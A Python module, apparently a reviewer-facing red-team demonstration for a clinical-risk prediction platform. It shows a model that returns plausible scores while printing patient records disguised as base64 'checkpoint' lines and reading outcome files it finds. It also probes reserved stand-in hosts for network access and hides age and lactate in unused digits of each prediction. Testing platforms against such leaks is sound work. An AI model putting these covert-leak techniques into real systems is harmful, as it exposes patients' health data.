"""A model that predicts well enough and, beside that, tries to carry the patients out.

It is a demonstration for reviewers, and it tries what a curious or careless participant could try:

1. it prints patients, a few in plain words and all of them dressed up as a training checkpoint;
2. it looks for the outcomes, and for other data in the places where a job's folders are;
3. it tries to send something home (to addresses that are reserved for documentation and lead nowhere);
4. it hides age and lactate in digits of its predictions that no score depends on.

It looks nowhere outside a job's own folders, so that it can be tried without a container too.
Its scores are valid, so a platform that publishes at once would publish its log as well. Try it, then read the
log at the desk.
"""

from __future__ import annotations

import base64
import math
import os
import socket
import sys
import zlib
from pathlib import Path

PLACES = [
    "/app/input/ref",
    "/app/input",
    "/app/reference_data",
    "/app/data",
    "/app/shared",
    "/app/program",
]
CHECKPOINT_WIDTH = 96


def predict(patients: list[dict[str, str]]) -> list[float]:
    """Valid risks, with something extra in them, after having looked around."""
    print_patients(patients)
    look_around()
    call_home()
    return [hide(risk(patient), patient) for patient in patients]


def print_patients(patients: list[dict[str, str]]) -> None:
    """Three in plain words, all in a form that looks like something else."""
    for patient in patients[:3]:
        print("debug:", " ".join(f"{name}={value}" for name, value in patient.items()))
    table = "\n".join(",".join(patient.values()) for patient in patients)
    checkpoint = base64.b64encode(zlib.compress(table.encode())).decode()
    for number, start in enumerate(range(0, len(checkpoint), CHECKPOINT_WIDTH), start=1):
        print(f"checkpoint {number:04d} {checkpoint[start:start + CHECKPOINT_WIDTH]}")


def look_around() -> None:
    """Search for the outcomes and whatever else there is, and say what was found."""
    for place in [*PLACES, *sys.argv[1:]]:
        print(f"looked at {place}: {describe(Path(place))}")
    outcomes = sorted({path for place in ("/app", *sys.argv[1:]) for path in find(Path(place), "outcomes.csv")})
    print(f"files named outcomes.csv: {', '.join(map(str, outcomes)) or 'none'}")
    for path in outcomes:
        print(path.read_text(encoding="utf-8"))


def describe(place: Path) -> str:
    """What is there, as far as this process may see."""
    try:
        if place.is_dir():
            return f"a folder with {', '.join(sorted(entry.name for entry in place.iterdir())) or 'nothing in it'}"
        return "a file" if place.exists() else "nothing"
    except OSError as error:
        return f"closed ({error.strerror})"


def find(place: Path, name: str) -> list[Path]:
    """Files of that name below a folder, without those that cannot be reached."""
    return [Path(folder) / name for folder, _, files in os.walk(place) if name in files]


def call_home() -> None:
    """Try the network by address and by name. 192.0.2.0/24 and .invalid are reserved and lead nowhere."""
    try:
        socket.create_connection(("192.0.2.1", 443), timeout=2).close()
        print("network by address: open")
    except OSError as error:
        print(f"network by address: closed ({error})")
    try:
        socket.getaddrinfo("collector.invalid", 443)
        print("network by name: open")
    except OSError as error:
        print(f"network by name: closed ({error})")


def risk(patient: dict[str, str]) -> float:
    """A rule of thumb on four measurements, so that the scores look ordinary."""
    lactate = float(patient["lactate"] or 1.3)
    total = (
        -1.4
        + 0.35 * (lactate - 1.5)
        + 0.30 * (float(patient["resp_rate"]) - 18) / 4
        - 0.30 * (float(patient["systolic_bp"]) - 129) / 19
        + 0.35 * (float(patient["temperature"]) - 37) / 0.6
    )
    return 1 / (1 + math.exp(-total))


def hide(honest_risk: float, patient: dict[str, str]) -> float:
    """Round the risk to three decimals and write age and lactate into the six after them."""
    age = int(patient["age"])
    lactate_tenths = round(float(patient["lactate"] or 0) * 10)
    return min(0.998, round(honest_risk, 3)) + age / 10**6 + lactate_tenths / 10**9
